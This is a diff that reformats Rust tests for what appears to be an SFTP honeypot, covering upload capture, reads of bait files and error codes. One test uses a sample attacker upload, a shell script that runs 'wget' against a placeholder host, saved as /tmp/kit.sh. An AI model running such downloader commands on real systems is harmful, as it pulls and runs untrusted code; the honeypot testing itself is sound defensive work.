@@ -59,7 +59,10 @@ fn version_lists_openssh_extensions() {
     while let (Some(n), Some(_)) = (r.utf8(), r.string()) {
         names.push(n.to_owned());
     }
-    assert_eq!(names.first().map(String::as_str), Some("posix-rename@openssh.com"));
+    assert_eq!(
+        names.first().map(String::as_str),
+        Some("posix-rename@openssh.com")
+    );
     assert!(names.contains(&"limits@openssh.com".to_owned()));
     assert_eq!(names.len(), 11);
 }
@@ -90,20 +93,39 @@ fn upload_is_captured_on_close() {
     let body = b"#!/bin/sh\nwget http://x/y\n";
     let mut bytes = packet(
         FXP_WRITE,
-        &Writer::new().u32(3).string(&handle).u64(10).string(&body[10..]).finish(),
+        &Writer::new()
+            .u32(3)
+            .string(&handle)
+            .u64(10)
+            .string(&body[10..])
+            .finish(),
     );
     bytes.extend(packet(
         FXP_WRITE,
-        &Writer::new().u32(4).string(&handle).u64(0).string(&body[..10]).finish(),
+        &Writer::new()
+            .u32(4)
+            .string(&handle)
+            .u64(0)
+            .string(&body[..10])
+            .finish(),
     ));
-    bytes.extend(packet(FXP_CLOSE, &Writer::new().u32(5).string(&handle).finish()));
-    bytes.extend(packet(FXP_STAT, &Writer::new().u32(6).string(b"/tmp/kit.sh").finish()));
+    bytes.extend(packet(
+        FXP_CLOSE,
+        &Writer::new().u32(5).string(&handle).finish(),
+    ));
+    bytes.extend(packet(
+        FXP_STAT,
+        &Writer::new().u32(6).string(b"/tmp/kit.sh").finish(),
+    ));
     let replies = exchange(&mut s, &bytes, &mut step);
     assert_eq!(status_of(&replies[0]), (3, 0));
     assert_eq!(status_of(&replies[1]), (4, 0));
     assert_eq!(status_of(&replies[2]), (5, 0));
     let mut r = Reader::new(&replies[3]);
-    assert_eq!((r.u8(), r.u32(), r.u32(), r.u64()), (Some(FXP_ATTRS), Some(6), Some(0xf), Some(body.len() as u64)));
+    assert_eq!(
+        (r.u8(), r.u32(), r.u32(), r.u64()),
+        (Some(FXP_ATTRS), Some(6), Some(0xf), Some(body.len() as u64))
+    );
 
     let sha = hex(&Sha256::digest(body));
     let ev = &step.events[0];
@@ -129,7 +151,10 @@ fn listing_and_reading_bait() {
     );
     let handle = Reader::new(&replies[0][5..]).string().unwrap().to_vec();
     let mut bytes = packet(FXP_READDIR, &Writer::new().u32(2).string(&handle).finish());
-    bytes.extend(packet(FXP_READDIR, &Writer::new().u32(3).string(&handle).finish()));
+    bytes.extend(packet(
+        FXP_READDIR,
+        &Writer::new().u32(3).string(&handle).finish(),
+    ));
     let replies = exchange(&mut s, &bytes, &mut step);
     let mut r = Reader::new(&replies[0]);
     assert_eq!((r.u8(), r.u32()), (Some(FXP_NAME), Some(2)));
@@ -150,18 +175,33 @@ fn listing_and_reading_bait() {
         &mut s,
         &packet(
             FXP_OPEN,
-            &Writer::new().u32(4).string(b"/etc/hostname").u32(1).u32(0).finish(),
+            &Writer::new()
+                .u32(4)
+                .string(b"/etc/hostname")
+                .u32(1)
+                .u32(0)
+                .finish(),
         ),
         &mut step,
     );
     let handle = Reader::new(&replies[0][5..]).string().unwrap().to_vec();
     let mut bytes = packet(
         FXP_READ,
-        &Writer::new().u32(5).string(&handle).u64(0).u32(32768).finish(),
+        &Writer::new()
+            .u32(5)
+            .string(&handle)
+            .u64(0)
+            .u32(32768)
+            .finish(),
     );
     bytes.extend(packet(
         FXP_READ,
-        &Writer::new().u32(6).string(&handle).u64(8).u32(32768).finish(),
+        &Writer::new()
+            .u32(6)
+            .string(&handle)
+            .u64(8)
+            .u32(32768)
+            .finish(),
     ));
     let replies = exchange(&mut s, &bytes, &mut step);
     let mut r = Reader::new(&replies[0]);
@@ -176,15 +216,38 @@ fn missing_paths_and_unknown_requests() {
     let mut s = sftp();
     let mut step = Step::default();
     let mut bytes = packet(FXP_STAT, &Writer::new().u32(1).string(b"/nope").finish());
-    bytes.extend(packet(FXP_OPEN, &Writer::new().u32(2).string(b"/nope/x").u32(0x1a).u32(0).finish()));
-    bytes.extend(packet(FXP_EXTENDED, &Writer::new().u32(3).string(b"bogus@x").finish()));
+    bytes.extend(packet(
+        FXP_OPEN,
+        &Writer::new()
+            .u32(2)
+            .string(b"/nope/x")
+            .u32(0x1a)
+            .u32(0)
+            .finish(),
+    ));
+    bytes.extend(packet(
+        FXP_EXTENDED,
+        &Writer::new().u32(3).string(b"bogus@x").finish(),
+    ));
     bytes.extend(packet(99, &Writer::new().u32(4).finish()));
-    bytes.extend(packet(FXP_MKDIR, &Writer::new().u32(5).string(b"/tmp/d").u32(0).finish()));
-    bytes.extend(packet(FXP_MKDIR, &Writer::new().u32(6).string(b"/tmp/d").u32(0).finish()));
-    bytes.extend(packet(FXP_RMDIR, &Writer::new().u32(7).string(b"/tmp/d").finish()));
+    bytes.extend(packet(
+        FXP_MKDIR,
+        &Writer::new().u32(5).string(b"/tmp/d").u32(0).finish(),
+    ));
+    bytes.extend(packet(
+        FXP_MKDIR,
+        &Writer::new().u32(6).string(b"/tmp/d").u32(0).finish(),
+    ));
+    bytes.extend(packet(
+        FXP_RMDIR,
+        &Writer::new().u32(7).string(b"/tmp/d").finish(),
+    ));
     let replies = exchange(&mut s, &bytes, &mut step);
     let codes: Vec<(u32, u32)> = replies.iter().map(|r| status_of(r)).collect();
-    assert_eq!(codes, [(1, 2), (2, 2), (3, 8), (4, 8), (5, 0), (6, 4), (7, 0)]);
+    assert_eq!(
+        codes,
+        [(1, 2), (2, 2), (3, 8), (4, 8), (5, 0), (6, 4), (7, 0)]
+    );
 }
 
 #[test]
